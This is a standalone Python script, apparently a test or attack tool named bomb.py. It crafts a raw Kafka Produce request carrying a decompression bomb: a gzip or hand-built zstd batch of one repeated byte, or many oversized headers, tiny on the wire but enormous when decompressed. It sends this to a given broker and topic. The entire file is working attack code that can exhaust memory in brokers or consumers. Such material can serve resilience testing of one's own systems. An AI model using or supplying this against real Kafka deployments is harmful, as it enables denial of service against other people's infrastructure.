#!/usr/bin/env python3
"""Produces one record that is small for Kafka and large for who reads it: a run of one byte, compressed.

    bomb.py host:port topic bytes codec [headers]

The codec is gzip or zstd. With headers the value is short, and the record has so many headers of so many bytes in all.
Nothing is held in memory here; prints the error code of the answer, 0 for none.
"""
import socket
import struct
import sys
import time
import zlib

CODECS = {"gzip": 1, "zstd": 4}
PIECE = 128 * 1024


def varint(number):
    number = (number << 1) ^ (number >> 63)
    out = bytearray()
    while number > 0x7F:
        out.append(number & 0x7F | 0x80)
        number >>= 7
    return bytes(out) + bytes([number])


def crc32c(data):
    table = []
    for byte in range(256):
        for _ in range(8):
            byte = (byte >> 1) ^ (0x82F63B78 if byte & 1 else 0)
        table.append(byte)
    crc = 0xFFFFFFFF
    for byte in data:
        crc = table[(crc ^ byte) & 0xFF] ^ (crc >> 8)
    return crc ^ 0xFFFFFFFF


def gzip(head, run, tail):
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    out = packer.compress(head)
    for left in range(run, 0, -PIECE):
        out += packer.compress(b" " * min(left, PIECE))
    return out + packer.compress(tail) + packer.flush()


def zstd(head, run, tail):
    """A frame of a raw block, of blocks that repeat one byte, and of a last raw one."""
    def block(kind, size, content, last=0):
        return struct.pack("<I", last | kind << 1 | size << 3)[:3] + content

    out = struct.pack("<IBBQ", 0xFD2FB528, 0xC0, 0x50, len(head) + run + len(tail)) + block(0, len(head), head)
    for left in range(run, 0, -PIECE):
        out += block(1, min(left, PIECE), b" ")
    return out + block(0, len(tail), tail, 1)


def record(size, headers):
    """What is before and behind the run of bytes, with the record's length in front."""
    if headers:
        each = size // headers
        names = b"".join(varint(1) + b"h" + varint(each) + b" " * each for _ in range(headers))
        body = b"\0" + varint(0) + varint(0) + varint(1) + b"k" + varint(2) + b"{}" + varint(headers) + names
        return varint(len(body)) + body, 0, b""
    head = b"\0" + varint(0) + varint(0) + varint(1) + b"k" + varint(size)
    tail = varint(0)
    return varint(len(head) + size + len(tail)) + head, size, tail


def main():
    address, topic, size, codec = sys.argv[1:5]
    packed = {"gzip": gzip, "zstd": zstd}[codec](*record(int(size), int(sys.argv[5]) if len(sys.argv) > 5 else 0))
    now = int(time.time() * 1000)
    rest = struct.pack(">hiqqqhii", CODECS[codec], 0, now, now, -1, -1, -1, 1) + packed
    batch = struct.pack(">qiibI", 0, 9 + len(rest), -1, 2, crc32c(rest)) + rest
    name = topic.encode()
    body = struct.pack(">hhiih", -1, 1, 60000, 1, len(name)) + name + struct.pack(">iii", 1, 0, len(batch)) + batch
    version = 7 if codec == "zstd" else 3
    request = struct.pack(">hhih", 0, version, 1, 4) + b"bomb" + body
    host, port = address.rsplit(":", 1)
    with socket.create_connection((host, int(port)), 60) as connection:
        connection.sendall(struct.pack(">i", len(request)) + request)
        answer = b""
        while len(answer) < 4 or len(answer) < 4 + struct.unpack(">i", answer[:4])[0]:
            part = connection.recv(65536)
            if not part:
                sys.exit("the broker closed the connection")
            answer += part
    print(struct.unpack(">h", answer[4 + 4 + 4 + 2 + len(name) + 4 + 4:][:2])[0])


main()
